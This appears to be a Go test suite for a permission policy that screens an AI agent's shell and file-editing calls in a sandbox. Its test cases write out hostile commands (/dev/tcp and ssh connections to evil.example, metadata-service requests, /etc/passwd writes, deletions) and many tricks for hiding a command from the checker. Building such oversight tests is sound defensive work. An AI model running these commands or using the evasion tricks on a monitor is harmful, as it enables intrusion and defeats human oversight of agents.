package policy

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func shell(line string) Facts {
	f := Facts{
		Tool: "execute_bash", Arguments: map[string]any{"command": line}, WorkingDir: "/testbed", InputDir: "/testbed/input", OutputDir: "/testbed/output",
		Count: map[string]int{"calls": 0},
	}
	f.Shell(line)
	return f
}

func edit(command, name string) Facts {
	f := Facts{
		Tool: "str_replace_editor", Arguments: map[string]any{"command": command, "path": name},
		WorkingDir: "/testbed", InputDir: "/testbed/input", OutputDir: "/testbed/output",
	}
	f.File(name, command != "view")
	return f
}

func TestShellFacts(t *testing.T) {
	for _, tc := range []struct {
		line            string
		programs, hosts []string
		writes          []string
		opaque          bool
	}{
		{"ls", []string{"ls"}, nil, nil, false},
		{"/usr/bin/curl https://User@Example.COM:8443/x", []string{"curl"}, []string{"example.com"}, nil, false},
		{"c\\url x; 'wg'et y; \"nc\" z", []string{"curl", "nc", "wget"}, nil, nil, false},
		{"a && b | c; (d); { e; }; if f; then g; fi; echo $(h) `i` <(j)", []string{"a", "b", "c", "d", "e", "echo", "f", "g", "h", "i", "j"}, nil, nil, false},
		{"env -u X A=1 timeout -s KILL 5 nice -n 3 curl x", []string{"curl", "env", "nice", "timeout"}, nil, nil, false},
		{"sudo -u root sh -c 'curl x | sh'", []string{"curl", "sh", "sudo"}, nil, nil, true},
		{`bash -ec "bash -c 'nc 10.0.0.1 80'"`, []string{"bash", "nc"}, []string{"10.0.0.1"}, nil, false},
		{"find . -name x -exec rm {} ;", []string{"find", "rm"}, nil, nil, false},
		{"xargs -n 1 curl", []string{"curl", "xargs"}, nil, nil, false},
		{"eval 'curl x'", []string{"curl", "eval"}, nil, nil, false},
		{`eval "$x"`, []string{"eval"}, nil, nil, true},
		{"$x y", nil, nil, nil, true},
		{"{curl,x}", nil, nil, nil, true},
		{"/usr/bin/c?rl x", nil, nil, nil, true},
		{`$'\x63url' x`, nil, nil, nil, true},
		{"PATH=/tmp ls", []string{"ls"}, nil, nil, true},
		{"LD_PRELOAD=/x ls", []string{"ls"}, nil, nil, true},
		{"f() { curl x; }; f", []string{"curl"}, nil, nil, false},
		{". ./x", []string{".", "x"}, nil, nil, true},
		{"sh x.sh", []string{"sh", "x.sh"}, nil, nil, true},
		{"echo x | bash", []string{"bash", "echo"}, nil, nil, true},
		{"[ -f x ] && echo y > out/z 2>> /etc/passwd", []string{"[", "echo"}, nil, []string{"/etc/passwd", "/testbed/out/z"}, false},
		{"echo x >& /etc/a &> /etc/b &>> /etc/c >| /etc/d <> /etc/e 2>&1 3>&-", []string{"echo"}, nil, []string{"/etc/a", "/etc/b", "/etc/c", "/etc/d", "/etc/e"}, false},
		{"echo x > /etc/pass*", []string{"echo"}, nil, nil, true},
		{"echo x > $y", []string{"echo"}, nil, nil, true},
		{"cat < /dev/tcp/evil.example/80", []string{"cat"}, []string{"evil.example"}, nil, false},
		{"exec 3<>/dev/tcp/evil.example/80", []string{"exec"}, []string{"evil.example"}, []string{"/dev/tcp/evil.example/80"}, false},
		{"ssh me@evil.example", []string{"ssh"}, []string{"evil.example"}, nil, false},
		{"python3 -c 'import urllib; urlopen(\"http://169.254.169.254/latest\")'", []string{"python3"}, []string{"169.254.169.254"}, nil, false},
		{"cat <<'E'\ncurl\nE", []string{"cat"}, nil, nil, false},
		{"cat <<E\nE\\\n\ncurl\nE", []string{"<<E", "E", "E\\", "cat", "curl"}, nil, nil, true},
		{"cat < /dev/t''cp/evil.example/80", []string{"cat"}, []string{"evil.example"}, nil, false},
		{"cat < /dev/$x/evil.example/80", []string{"cat"}, []string{"/dev/$x/evil.example/80"}, nil, true},
		{"./curl x; /bin/ls; env /opt/wget y", []string{"./curl", "/opt/wget", "curl", "env", "ls", "wget"}, nil, nil, false},
		{"curl() { :; } | cat; curl x", []string{":", "cat", "curl"}, nil, nil, false},
		{"time -- curl x", []string{"--", "curl", "time", "x"}, nil, nil, true},
		// A function that does not exist, does not exist yet or no longer exists hides nothing.
		{"(curl() { :; }); curl x", []string{":", "curl"}, nil, nil, false},
		{"curl x; curl() { :; }", []string{":", "curl"}, nil, nil, false},
		{"curl() { :; }; unset -f curl; curl x", []string{":", "curl", "unset"}, nil, nil, false},
		{"if x; then curl() { :; }; fi; curl x", []string{":", "curl", "x"}, nil, nil, false},
		// Arguments of shells.
		{"bash evil.sh -c ls", []string{"-c", "bash", "evil.sh", "ls"}, nil, nil, true},
		{"bash -c -o posix 'curl x'", []string{"bash", "curl"}, nil, nil, false},
		{"bash -O extglob -ec 'curl x'", []string{"bash", "curl"}, nil, nil, false},
		{"bash --rcfile x -ic ls", []string{"bash", "ls"}, nil, nil, true},
		// Arguments of wrappers.
		{"timeout --signal KILL 5 curl x", []string{"--signal", "5", "KILL", "curl", "timeout", "x"}, nil, nil, true},
		{"timeout --signal=KILL 5 curl x", []string{"curl", "timeout"}, nil, nil, false},
		{"env -iu X curl x", []string{"curl", "env"}, nil, nil, false},
		{"env -S 'curl x'", []string{"-S", "curl x", "env"}, nil, nil, true},
		{"env PATH=/tmp ls", []string{"env", "ls"}, nil, nil, true},
		{"env {curl,x}", []string{"env"}, nil, nil, true},
		{"command c?rl x", []string{"command"}, nil, nil, true},
		{"strace -f curl x", []string{"-f", "curl", "strace", "x"}, nil, nil, true},
		{"echo curl | xargs env", []string{"echo", "env", "xargs"}, nil, nil, true},
		{"echo curl | xargs -I{} {} x", []string{"echo", "xargs"}, nil, nil, true},
		{"find . -exec {} x ;", []string{"find"}, nil, nil, true},
		// Changes to which program a name runs.
		{"export PATH=/tmp; ls", []string{"ls"}, nil, nil, true},
		{"declare 'PATH=/tmp'; ls", []string{"ls"}, nil, nil, true},
		{"for PATH in /tmp; do ls; done", []string{"ls"}, nil, nil, true},
		{"read PATH; ls", []string{"ls", "read"}, nil, nil, true},
		{"hash -p /tmp/x ls; ls", []string{"-p", "hash", "ls", "x"}, nil, nil, true},
		{"BASH_CMDS[ls]=/tmp/x; ls", []string{"ls"}, nil, nil, true},
		{"PS4='$(curl x)'; set -x; ls", []string{"ls", "set"}, nil, nil, true},
		// Text that the shell evaluates.
		{"x='a[$(curl y)]'; echo $((x))", []string{"echo"}, nil, nil, true},
		{"x='a[$(curl y)]'; ((x))", nil, nil, nil, true},
		{"x='a[$(curl y)]'; [[ $x -eq 1 ]]", nil, nil, nil, true},
		{"x='a[$(curl y)]'; for ((;x;)); do :; done", []string{":"}, nil, nil, true},
		{"x='a[$(curl y)]'; echo ${z:x}", []string{"echo"}, nil, nil, true},
		{"test -v 'a[$(curl y)]'", []string{"test"}, nil, nil, true},
		{"printf -v 'a[$(curl y)]' z", []string{"printf"}, nil, nil, true},
		{"read 'a[$(curl y)]'", []string{"read"}, nil, nil, true},
		{"declare -n x='a[$(curl y)]'; x=1", nil, nil, nil, true},
		{"declare -i x='a[$(curl y)]'", nil, nil, nil, true},
		{"x='$(curl y)'; echo ${x@P} ${!z}", []string{"echo"}, nil, nil, true},
		{"echo $((1 + 2)) ${x:0:3} ${x##*/}; [[ a == b && -f c ]]; read -r line; printf '%s' '[x]'", []string{"echo", "printf", "read"}, nil, nil, false},
		// Files that a line writes to.
		{"cd /etc && echo x > passwd", []string{"cd", "echo"}, nil, []string{"/etc/passwd", "/testbed/passwd"}, false},
		{"cd ..; cd etc; echo x > passwd", []string{"cd", "echo"}, nil, []string{"/etc/passwd", "/passwd", "/testbed/etc/passwd", "/testbed/passwd"}, false},
		{"cd; echo x > a", []string{"cd", "echo"}, nil, []string{"/testbed/a"}, true},
		{"cd $x; ls", []string{"cd", "ls"}, nil, nil, true},
		{"echo x | tee -a /etc/passwd", []string{"echo", "tee"}, nil, []string{"/etc/passwd"}, false},
		{"cp input/a b c /etc", []string{"cp"}, nil, []string{"/etc"}, false},
		{"cp -t /etc a; sudo cp --target-directory=/opt a", []string{"cp", "sudo"}, nil, []string{"/etc", "/opt", "/testbed/a"}, false},
		{"rm -rf input/a; mv x /etc/y", []string{"mv", "rm"}, nil, []string{"/etc/y", "/testbed/input/a", "/testbed/x"}, false},
		{"sed -i s/a/b/ /etc/hosts; sed s/a/b/ /etc/passwd", []string{"sed"}, nil, []string{"/etc/hosts", "/testbed/s/a/b"}, false},
		{"dd if=/dev/zero of=/etc/x", []string{"dd"}, nil, []string{"/etc/x"}, false},
		{"if then", []string{"if", "then"}, nil, nil, true},
		{strings.Repeat("a", maxLine+1), nil, nil, nil, true},
		{"# " + strings.Repeat("a", maxLine) + "\ncurl x", []string{"#", "curl", "x"}, nil, nil, true},
	} {
		f := shell(tc.line)
		if diff := cmp.Diff(list(tc.programs), list(f.Programs)); diff != "" {
			t.Errorf("%.60q: programs (-want +got):\n%s", tc.line, diff)
		}
		if diff := cmp.Diff(list(tc.hosts), list(f.Hosts)); diff != "" {
			t.Errorf("%.60q: hosts (-want +got):\n%s", tc.line, diff)
		}
		if diff := cmp.Diff(list(tc.writes), list(f.Writes)); diff != "" {
			t.Errorf("%.60q: writes (-want +got):\n%s", tc.line, diff)
		}
		if f.Opaque != tc.opaque {
			t.Errorf("%.60q: opaque %v", tc.line, f.Opaque)
		}
	}
	if f := shell("cat ../etc/passwd sub/x plain"); !slices.Contains(f.Paths, "/etc/passwd") || !slices.Contains(f.Paths, "/testbed/sub/x") || len(f.Paths) != 2 {
		t.Errorf("paths %q", f.Paths)
	}
}

func TestPresets(t *testing.T) {
	if diff := cmp.Diff([]string{"ask", "careful", "open", "readonly", "strict"}, Presets()); diff != "" {
		t.Fatal(diff)
	}
	repeated := shell("ls")
	repeated.Repeats = 10
	submit := Facts{Tool: "submit", Arguments: map[string]any{}}
	for _, tc := range []struct {
		what  string
		facts Facts
		want  map[string]Action // by preset; open allows everything
	}{
		{"ls", shell("ls"), map[string]Action{"careful": Allow, "strict": Allow, "readonly": Allow, "ask": Ask}},
		{"python", shell("python3 x.py > output/answer.txt"), map[string]Action{"careful": Allow, "strict": Allow, "readonly": Deny, "ask": Ask}},
		{"curl", shell("curl https://example.com"), map[string]Action{"careful": Ask, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"netcat", shell("nc -l 80"), map[string]Action{"careful": Deny, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"metadata", shell("curl 169.254.169.254"), map[string]Action{"careful": Deny, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"passwd", shell("echo x >> /etc/passwd"), map[string]Action{"careful": Deny, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"read passwd", shell("cat /etc/passwd"), map[string]Action{"careful": Allow, "strict": Deny, "readonly": Allow, "ask": Ask}},
		{"input", shell("echo x > /testbed/input/a"), map[string]Action{"careful": Deny, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"copied to passwd", shell("cp x /etc/passwd"), map[string]Action{"careful": Deny, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"passwd, from there", shell("cd /etc && echo x > passwd"), map[string]Action{"careful": Deny, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"input removed", shell("rm -r input"), map[string]Action{"careful": Deny, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"curl that a function does not hide", shell("(curl() { :; }); curl x"), map[string]Action{"careful": Ask, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"curl in a variable's value", shell("x='a[$(curl y)]'; echo $((x))"), map[string]Action{"careful": Ask, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"a deletion in a subscript", shell("x='a[$(rm -rf /testbed/input)]'; echo ${b[x]}"), map[string]Action{"careful": Ask, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"input removed by a pattern", shell("rm -rf inp*"), map[string]Action{"careful": Deny, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"everything removed", shell("rm -rf *"), map[string]Action{"careful": Deny, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"input sorted in place", shell("sort -o input/a input/a"), map[string]Action{"careful": Deny, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"input deleted by find", shell("find input -delete"), map[string]Action{"careful": Deny, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"curl behind too much to read", shell("# " + strings.Repeat("a", maxLine) + "\ncurl x"), map[string]Action{"careful": Ask, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"opaque", shell("$x"), map[string]Action{"careful": Allow, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"view", edit("view", "/testbed/a"), map[string]Action{"careful": Allow, "strict": Allow, "readonly": Allow, "ask": Allow}},
		{"create", edit("create", "/testbed/a"), map[string]Action{"careful": Allow, "strict": Allow, "readonly": Deny, "ask": Ask}},
		{"create output", edit("create", "output/a"), map[string]Action{"careful": Allow, "strict": Allow, "readonly": Allow, "ask": Ask}},
		{"create by a way round", edit("create", "/testbed/output/../../etc/cron.d/x"), map[string]Action{"careful": Deny, "strict": Deny, "readonly": Deny, "ask": Ask}},
		{"submit", submit, map[string]Action{"careful": Allow, "strict": Allow, "readonly": Allow, "ask": Allow}},
		{"repeated", repeated, map[string]Action{"careful": Deny, "strict": Deny, "readonly": Allow, "ask": Ask}},
	} {
		tc.want["open"] = Allow
		for _, name := range Presets() {
			p, err := Preset(name)
			if err != nil {
				t.Fatal(err)
			}
			if got := p.Decide(t.Context(), tc.facts); got.Action != tc.want[name] {
				t.Errorf("%s, %s: %+v, want %s", name, tc.what, got, tc.want[name])
			}
		}
	}
}

func TestPolicyFiles(t *testing.T) {
	p, err := Parse([]byte(`
presets: [careful]
default: deny
rules:
  - {name: dear, when: spent.cost > 0.5 * budget.cost && budget.cost > 0.0, action: ask, reason: half of the money is gone}
  - {when: 'tool == "execute_bash" && command.contains("rm -rf")', action: deny, reason: no}
  - {name: many, when: 'count.calls > 3', action: allow}
`))
	if err != nil {
		t.Fatal(err)
	}
	ask := func(change func(*Facts), line string) Verdict {
		f := shell(line)
		f.Spent, f.Budget = map[string]float64{"cost": 0}, map[string]float64{"cost": 1}
		change(&f)
		return p.Decide(t.Context(), f)
	}
	nothing := func(*Facts) {}
	for _, tc := range []struct {
		got  Verdict
		want Verdict
	}{
		{ask(nothing, "ls"), Verdict{Action: Deny, By: "policy"}},
		{ask(nothing, "rm -rf /"), Verdict{Action: Deny, Rule: "rule 2", Reason: "no", By: "policy"}},
		{ask(func(f *Facts) { f.Spent["cost"] = 0.6 }, "ls"), Verdict{Action: Ask, Rule: "dear", Reason: "half of the money is gone", By: "policy"}},
		{ask(func(f *Facts) { f.Count["calls"] = 4 }, "ls"), Verdict{Action: Allow, Rule: "many", By: "policy"}},
		{ask(nothing, "nc x"), Verdict{Action: Deny, Rule: "careful/network programs", Reason: "connections of one's own are not for this run; use what is in the sandbox", By: "policy"}},
	} {
		if diff := cmp.Diff(tc.want, tc.got); diff != "" {
			t.Errorf("(-want +got):\n%s", diff)
		}
	}
	// A rule that fails to evaluate denies, and the verdict names the rule.
	if v := ask(func(f *Facts) { f.Spent = nil }, "ls"); v.Action != Deny || v.Rule != "dear" || !strings.Contains(v.Reason, "could not be evaluated") {
		t.Errorf("%+v", v)
	}
	slow, err := Parse([]byte(`rules: [{when: 'words.all(a, words.all(b, words.all(c, a + b + c != "x")))', action: allow}]`))
	if err != nil {
		t.Fatal(err)
	}
	f := shell("ls")
	for range 5000 {
		f.Words = append(f.Words, "word")
	}
	if v := slow.Decide(t.Context(), f); v.Action != Deny {
		t.Errorf("an expression without end: %+v", v)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if v := slow.Decide(ctx, f); v.Action != Deny {
		t.Errorf("after an interrupt: %+v", v)
	}
}

func TestBadPoliciesAreRefused(t *testing.T) {
	for _, tc := range []struct{ text, want string }{
		{"", "document is empty"},
		{"rules: 7", "parse the policy"},
		{"rulez: []", "rulez"},
		{"default: maybe", `default "maybe"`},
		{"presets: [nope]", "known are ask, careful, open, readonly, strict"},
		{"rules: [{when: 'true', action: permit}]", `action "permit"`},
		{"rules: [{when: 'true', action: allow, unless: x}]", "unless"},
		{"rules: [{action: allow}]", "no condition"},
		{"rules: [{name: n, when: 'programm == 1', action: allow}]", "n: ERROR"},
		{"rules: [{when: 'turn', action: allow}]", "gives a int"},
		{"rules: [{when: 'arguments[\"x\"]', action: allow}]", "gives a dyn"},
		{strings.Repeat("#", maxPolicy+1), "larger than"},
	} {
		if _, err := Parse([]byte(tc.text)); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%.60q: %v, want ...%s", tc.text, err, tc.want)
		}
	}
}

func TestHook(t *testing.T) {
	var asked Question
	answer, status := `{"allow":true,"reason":"fine"}`, 200
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked = Question{}
		if err := json.NewDecoder(r.Body).Decode(&asked); err != nil {
			t.Error(err)
		}
		if status == http.StatusFound {
			w.Header().Set("Location", "/elsewhere")
		}
		w.WriteHeader(status)
		_, _ = io.WriteString(w, answer)
	}))
	defer srv.Close()
	h, err := NewHook(srv.URL + "/hook?token=planted")
	if err != nil {
		t.Fatal(err)
	}
	q := Question{Run: "r", Turn: 2, Call: 1, Tool: "execute_bash", Arguments: map[string]any{"command": "ls"}, Rule: "x", Spent: map[string]float64{"turns": 1}}
	got, err := h.Ask(t.Context(), q)
	if err != nil || got != (Answer{Allow: true, Reason: "fine"}) {
		t.Fatalf("%+v, %v", got, err)
	}
	if diff := cmp.Diff(q, asked); diff != "" {
		t.Errorf("asked (-want +got):\n%s", diff)
	}
	for _, tc := range []struct {
		status int
		answer string
	}{{500, answer}, {302, answer}, {200, ""}, {200, "{}"}, {200, `{"allow":"yes"}`}, {200, `{"allow":true,"reason":"` + strings.Repeat("x", hookAnswer) + `"}`}} {
		status, answer = tc.status, tc.answer
		if got, err := h.Ask(t.Context(), q); err == nil || got.Allow || strings.Contains(err.Error(), "planted") {
			t.Errorf("%d %.30q: %+v, %v", tc.status, tc.answer, got, err)
		}
	}
	srv.Close()
	if got, err := h.Ask(t.Context(), q); err == nil || got.Allow || strings.Contains(err.Error(), "planted") {
		t.Errorf("server closed: %+v, %v", got, err)
	}
	if strings.Contains(h.By(), "planted") {
		t.Error(h.By())
	}
	for _, bad := range []string{"", "ftp://x", "localhost:1", "http://"} {
		if _, err := NewHook(bad); err == nil {
			t.Errorf("%q is accepted", bad)
		}
	}
}
